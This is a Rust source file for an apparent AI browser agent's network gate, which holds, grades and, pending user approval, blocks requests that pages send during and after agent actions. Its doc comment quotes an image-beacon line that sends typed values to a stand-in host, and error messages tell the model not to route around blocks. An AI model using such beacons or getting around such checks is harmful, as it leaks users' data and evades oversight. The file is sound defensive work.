//! The gate at the wire for the browser's actions: while an action runs
//! (a click, keys, a select, a tick, typing) and a moment after, every
//! request the page sends that can change something is held
//! (`browser::intercept`) and graded from what it is (`gate::classify::wire`). Below
//! SUBMIT it goes on without a word (telemetry, an add-to-cart). At SUBMIT
//! and above it goes only if it is the very request the user approved for
//! this action (method, destination and every field with its value), or
//! the user approves it now, shown as it is; else it is failed and the
//! call reports what was blocked.
//!
//! A read (GET) is held too when it goes to another site than the page's
//! (graded for the user's values in its address, host name, fragment and
//! headers, and for an order in its address), so a page that forwards what
//! was typed into it (`new Image().src = "https://elsewhere/?v=" + value`)
//! sends nothing unasked; and on the page's own site when its address
//! orders (`<img src=/order?qty=50&confirm=1>`: `gate::classify::wire::read_acts`).
//! A value split over requests to one other site is found joined
//! (`gate::request::SentElsewhere`). The values
//! the user gave the page's own site in this action (typed, approved) may
//! go back to that site.
//!
//! The user's answer is awaited while the action's own work goes on (its
//! navigation wait), so a held form POST does not stall the page's other
//! requests. The action returns once its page has been [`QUIET`] for a
//! moment; the watch then stays on the tab ([`Idle`]) and judges what the
//! page sends later the same way (a timer's order, a slow handler's POST:
//! the user is asked, in the action's context, and a refused request is
//! failed), until the next action takes it back or the run ends, however
//! long that is.
//!
//! A tab is watched from the first call a run makes on it ([`watch`]), not
//! only from its first action: what a page the agent only navigated to,
//! scrolled or read sends by itself (an order as it loads, another site's
//! form posted to the shop, a worker's request) is judged the same way,
//! in that call's context, and told to the model at the end of the call
//! or at its next call on the tab ([`late`]).

use std::future::Future;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;

use super::{BrowserTool, Call};
use crate::browser::intercept::{Idle, Outgoing, Verdict, WireWatch};
use crate::browser::page;
use crate::browser::session::TabHandle;
use crate::context::CallContext;
use crate::error::{Error, ErrorCode, Result};
use crate::gate::action::{Action, ElementFacts, PagePrice, SecretValue};
use crate::gate::check::Checked;
use crate::gate::check::Gate;
use crate::gate::classify::wire::{classify_message, classify_request, classify_third_party, not_given, read_acts};
use crate::gate::request::{SentElsewhere, WireRequest};
use crate::tools::PermissionScope;
use crate::vocab::origin::same_site;

/// After the action's work ended, the action waits this long without a
/// held request before it returns, when the page's network moved during
/// the action: what its events set off is answered in its result. What
/// comes later is judged alike by the watch the tab keeps ([`Idle`]) and
/// told at the next action.
const QUIET: Duration = Duration::from_millis(60);

/// ...and this long when nothing moved on the network during the action
/// (typing into a plain field): such an action costs next to nothing.
const QUIET_STILL: Duration = Duration::from_millis(10);

/// ...and no longer than this (a page that keeps sending holds the action).
const QUIET_CAP: Duration = Duration::from_secs(3);

/// Run `work` (the action on `tab`) with the page's requests held and
/// graded. `approved`: the binding of the request the user approved for
/// this action (a form as the dialog showed it), let go once; `given`:
/// the user's values the user gave the page's own site in this action.
pub(super) async fn guarded<T>(
    call: &Call<'_>,
    tab: &TabHandle,
    tool: BrowserTool,
    approved: Option<String>,
    given: &[String],
    work: impl Future<Output = Result<T>>,
) -> Result<T> {
    // Benchmarks only: what the action costs without the gate at the wire.
    #[cfg(feature = "bench-knobs")]
    if tab.ungated() {
        return work.await;
    }
    let mut slot = tab.wire.lock().await;
    let (kept, late) = match slot.take() {
        Some(idle) => idle.take().await,
        None => (None, Vec::new()),
    };
    if !late.is_empty() {
        // Still the tab's watch: judging what the page sends by itself.
        if let Some(wire) = kept {
            let judge = Arc::new(Judge::new(call, tab, tool, &wire, &[], None, true));
            *slot = Some(idle(wire, judge));
        }
        // The model must know before it goes on: its last action's page
        // tried to send what nobody approved.
        return Err(Error::new(
            ErrorCode::Denied,
            format!(
                "{} was not done: after the last action on this tab, the page tried to send what was not \
                 approved, and it was blocked (nothing of it reached the site): {}. Tell the user before going \
                 on; do not try another way around this.",
                tool.name(),
                late.join("; ")
            ),
        ));
    }
    let wire = match kept {
        Some(wire) => wire,
        None => tab.watch_wire(carries_elsewhere).await?,
    };
    let (page_url, _) = page::url_and_title(tab).await;
    wire.set_home(&page_url);
    if !given.is_empty()
        && let Ok(mut filled) = tab.filled.lock()
    {
        // From now on the page has the person's values: its requests to
        // other sites may carry them, however encoded.
        filled.fill(given, &page_url);
    }
    let judge = Arc::new(Judge::new(call, tab, tool, &wire, given, approved, false));
    let (done_tx, mut done_rx) = tokio::sync::oneshot::channel::<()>();
    let work = async move {
        let out = work.await;
        let _ = done_tx.send(());
        out
    };
    let mut wire = wire;
    let began = Instant::now();
    let deciding = async {
        let mut blocked: Vec<String> = Vec::new();
        let mut quiet: Option<(Instant, Instant)> = None;
        let mut settle = QUIET;
        loop {
            let wait = quiet.map_or(Duration::from_secs(3600), |(since, cap)| {
                (since + settle).min(cap).saturating_duration_since(Instant::now())
            });
            tokio::select! {
                held = wire.next() => {
                    let Some(held) = held else { break };
                    let (verdict, why) = judge.judge(&held).await;
                    wire.decide(&held, verdict).await;
                    blocked.extend(why);
                    // A read does not keep the window open (a page polling
                    // another site would hold every action to the cap).
                    if !held.reads_only() && let Some((since, _)) = quiet.as_mut() {
                        *since = Instant::now();
                    }
                }
                _ = &mut done_rx, if quiet.is_none() => {
                    let now = Instant::now();
                    if blocked.is_empty() && !tab.net.changed_since(began) {
                        settle = QUIET_STILL;
                    }
                    quiet = Some((now, now + QUIET_CAP));
                }
                () = tokio::time::sleep(wait), if quiet.is_some() => break,
            }
        }
        blocked
    };
    let (out, blocked) = futures::join!(work, deciding);
    // The page may send more later: the watch stays, judging alike.
    let (now_at, _) = page::url_and_title(tab).await;
    wire.set_home(&now_at);
    judge.between.store(true, std::sync::atomic::Ordering::SeqCst);
    *slot = Some(idle(wire, judge));
    drop(slot);
    if !blocked.is_empty() {
        let what = tool.name();
        return Err(Error::new(
            ErrorCode::Denied,
            format!(
                "{what} was done, but the page then tried to send what was not approved, and it was blocked \
                 (nothing of it reached the site): {}. Do not try another way around this; tell the user.",
                blocked.join("; ")
            ),
        ));
    }
    out
}

/// The watch that judges what `tab`'s page sends between actions, with
/// `judge`.
fn idle(wire: WireWatch, judge: Arc<Judge>) -> Idle {
    let owner = judge.cx.run_id.clone();
    Idle::spawn(wire, owner, move |held: Outgoing| {
        let judge = Arc::clone(&judge);
        async move {
            let (verdict, why) = judge.judge(&held).await;
            if let Some(why) = &why {
                tracing::warn!("wire: after {}, the page tried to send {why}; blocked", judge.tool.name());
            }
            (verdict, why)
        }
    })
}

/// Watch `tab` from now on, if nothing watches it yet: every call of a
/// run on a tab comes here first (`Call::tab`), so a page the agent only
/// opened, navigated, scrolled or read is judged like one it acted on
/// (what it sends by itself, as between actions). The watch stays with
/// the tab after the run ended (a page the agent left is still judged, in
/// that run's context); a run that takes the tab later judges it in its
/// own. A browser whose requests the hub cannot see (shutting down) runs
/// the call unwatched; its actions refuse to run.
pub(super) async fn watch(call: &Call<'_>, tab: &TabHandle, tool: BrowserTool) {
    #[cfg(feature = "bench-knobs")]
    if tab.ungated() {
        return;
    }
    let mut slot = tab.wire.lock().await;
    let kept = match slot.take() {
        Some(idle) if idle.owner() == call.cx.run_id.as_deref() => {
            *slot = Some(idle);
            return;
        }
        Some(idle) => {
            // Another run's watch (it left the tab): this run judges now.
            // What it blocked was told to nobody: logged when blocked.
            idle.take().await.0
        }
        None => None,
    };
    let wire = match kept {
        Some(wire) => wire,
        None => match tab.watch_wire(carries_elsewhere).await {
            Ok(wire) => wire,
            Err(e) => {
                tracing::debug!("wire: {} runs with its tab unwatched: {}", tool.name(), e.to_wire().message);
                return;
            }
        },
    };
    let judge = Arc::new(Judge::new(call, tab, tool, &wire, &[], None, true));
    *slot = Some(idle(wire, judge));
}

/// What the tab's page tried to send by itself since the last look, and
/// was blocked: the call that was just done is reported `denied`, so the
/// model tells the user before going on.
pub(super) async fn late(tab: &TabHandle, tool: BrowserTool) -> Result<()> {
    let slot = tab.wire.lock().await;
    let Some(blocked) = slot.as_ref().map(Idle::blocked).filter(|b| !b.is_empty()) else { return Ok(()) };
    Err(Error::new(
        ErrorCode::Denied,
        format!(
            "{} was done, but the page then tried by itself to send what was not approved, and it was blocked \
             (nothing of it reached the site): {}. Tell the user before going on; do not try another way around this.",
            tool.name(),
            blocked.join("; ")
        ),
    ))
}

/// A read worth holding: to another site than the page's (`home`), any
/// (its address, host name, fragment or headers may carry the user's
/// data); to the page's own site, one whose address orders
/// (`gate::classify::wire::read_acts`: `/order?qty=50&confirm=1`). Ordinary loads
/// of the page's own site (documents, images, scripts, reads) go at once.
fn carries_elsewhere(url: &str, home: &str) -> bool {
    let Ok(u) = url::Url::parse(url) else { return false };
    if !matches!(u.scheme(), "http" | "https" | "ws" | "wss") {
        return false;
    }
    if home.is_empty() || !same_site(url, home) {
        return true;
    }
    read_acts(url).is_some()
}

/// What one action's requests are judged by, during the action and after
/// it (owned: the watch outlives the call).
struct Judge {
    gate: Arc<Gate>,
    cx: CallContext,
    args: Value,
    tool: BrowserTool,
    /// The page the requests come from: the one the tab shows, kept by
    /// the hub as it navigates ([`WireWatch::home`]).
    page_url: Arc<Mutex<String>>,
    given: Vec<String>,
    /// The binding of the request the user approved, let go once.
    approved: Mutex<Option<String>>,
    /// The user's values, read (and unsealed) once, when first needed.
    secrets: tokio::sync::OnceCell<Vec<SecretValue>>,
    /// Set once the action returned and the tab's watch judges alone.
    between: std::sync::atomic::AtomicBool,
    /// What was sent to each other site, for values split over requests.
    sent: Mutex<SentElsewhere>,
    /// The person's values typed into the tab's pages (the tab's own).
    filled: Arc<Mutex<crate::browser::intercept::Filled>>,
    /// What the page said the action costs ([`Call::priced`]): the amount
    /// shown for a request of the action that names none of its own.
    priced: (Option<String>, Option<PagePrice>),
}

impl Judge {
    fn new(
        call: &Call<'_>,
        tab: &TabHandle,
        tool: BrowserTool,
        wire: &WireWatch,
        given: &[String],
        approved: Option<String>,
        between: bool,
    ) -> Judge {
        Judge {
            gate: Arc::clone(&call.ctx.gate),
            cx: call.cx.clone(),
            args: call.args.clone(),
            tool,
            page_url: wire.home(),
            given: given.to_vec(),
            approved: Mutex::new(approved),
            secrets: tokio::sync::OnceCell::new(),
            between: std::sync::atomic::AtomicBool::new(between),
            sent: Mutex::default(),
            filled: Arc::clone(&tab.filled),
            // Only the action's own requests: what a page sends between
            // actions is no purchase of a control the gate read.
            priced: if between { (None, None) } else { call.priced.clone() },
        }
    }

    /// What becomes of one held request, and why, when it is blocked.
    async fn judge(&self, held: &Outgoing) -> (Verdict, Option<String>) {
        let mut request =
            WireRequest::parse(&held.method, &held.url, held.content_type.as_deref(), held.body.as_deref())
                .with_headers(held.headers.clone());
        if let Ok(mut approved) = self.approved.lock()
            && approved.as_deref() == Some(request.binding().as_str())
        {
            // The request the user saw and approved, as it was shown: once.
            *approved = None;
            return (Verdict::Continue, None);
        }
        let secrets = self.secrets.get_or_init(|| async { self.gate.secrets().await.unwrap_or_default() }).await;
        let page_url = self.page_url.lock().map(|p| p.clone()).unwrap_or_default();
        let page = (!page_url.is_empty()).then_some(page_url.as_str());
        let secrets = not_given(secrets, &self.given, &request.url, page);
        if !secrets.is_empty()
            && let Ok(mut sent) = self.sent.lock()
        {
            // A value split over requests to one other site (or over a
            // socket's messages) is found joined.
            if held.is_message() {
                sent.join_message(&mut request);
            } else {
                sent.join(&mut request, page);
            }
        }
        // Between actions, what a page sends to another site is a third
        // party's business (analytics batches, whose field names say
        // "message" or "order"): it is graded by what it does only (an
        // amount with a currency, a card, a payment API, a read that
        // orders, the user's values), not by its words.
        let elsewhere = page.is_some_and(|p| !same_site(p, &request.url));
        // A form posted to another site (a page that orders at the shop
        // through the agent's browser) is a navigation, never analytics:
        // graded in full.
        let graded = if held.is_message() {
            // A socket's message: what it does, and its words that order
            // or pay (not a chat's "message", a feed's "subscribe").
            classify_message(&request, page, &secrets)
        } else if self.between.load(std::sync::atomic::Ordering::SeqCst)
            && elsewhere
            && !held.opens()
            && !held.navigates
        {
            classify_third_party(&request, page, &secrets)
        } else {
            classify_request(&request, page, &secrets)
        };
        // After the person's values were typed into the tab's page, a
        // request to another site is asked, whatever it looks like.
        let after_fill = self.filled.lock().ok().and_then(|f| f.asks(&held.url));
        if graded.scope < PermissionScope::Submit && after_fill.is_none() {
            if let Ok(mut filled) = self.filled.lock() {
                filled.sent(&held.url);
            }
            return (Verdict::Continue, None);
        }
        let shown = format!("{} {}", request.method, request.url);
        if held.sent {
            // Over an encrypted socket, seen only as it left: nothing to
            // ask any more; its socket is closed, and the model told.
            tracing::warn!(
                "wire: {shown} left over an encrypted WebSocket: {:?}; its socket is closed",
                graded.reasons
            );
            return (
                Verdict::Fail,
                Some(format!(
                    "{shown} (over an encrypted WebSocket, seen only as it left: it may have reached the site; \
                     the socket was closed)"
                )),
            );
        }
        let action = Action {
            tool: self.tool.name().to_owned(),
            declared: Some(if after_fill.is_some() {
                PermissionScope::Submit
            } else {
                PermissionScope::WriteNonDestructive
            }),
            url: page.map(str::to_owned),
            // Where it goes: rules, the run's allowed origins and "always
            // for this session" are the destination's, never the page's.
            origin: crate::vocab::origin::origin_of(&held.url)
                .or_else(|| page.and_then(crate::vocab::origin::origin_of)),
            target: Some(ElementFacts {
                tag: "request".into(),
                name: format!("the page's request {shown}"),
                submits_form: true,
                form: Some(request.form()),
                ..ElementFacts::default()
            }),
            destination: Some(held.url.clone()),
            // The amount is read from the request itself (`confirm::amount_of`);
            // one that names none is shown with what the page said the
            // action costs, as read from the page.
            page_total: self.priced.0.clone(),
            price: self.priced.1.clone(),
            request: Some(request),
            after_fill: after_fill.clone(),
            ..Action::default()
        };
        let (_, risk) = self.tool.declared();
        // A run stopped (or over, its tab left to the person) is no reason
        // to refuse unasked what its page sends later: the person is asked.
        let cx = if self.cx.cancel.is_cancelled() {
            self.cx.clone().with_cancel(crate::context::Cancel::new())
        } else {
            self.cx.clone()
        };
        let decided = match self.gate.begin(&cx, &action, risk, &self.args).await {
            Ok(Checked::Decided(done)) => done,
            Ok(Checked::Ask(asking)) => self.gate.answer(&cx, asking).await,
            Err(refused) => Err(refused),
        };
        match decided {
            Ok(_) => {
                if let Ok(mut filled) = self.filled.lock() {
                    if after_fill.is_some() {
                        // The person let the page send there: that site is theirs to give.
                        filled.allow(&held.url);
                    }
                    filled.sent(&held.url);
                }
                (Verdict::Continue, None)
            }
            Err(refused) => {
                tracing::warn!("wire: blocked {shown}: {}", refused.error.message());
                (Verdict::Fail, Some(shown))
            }
        }
    }
}
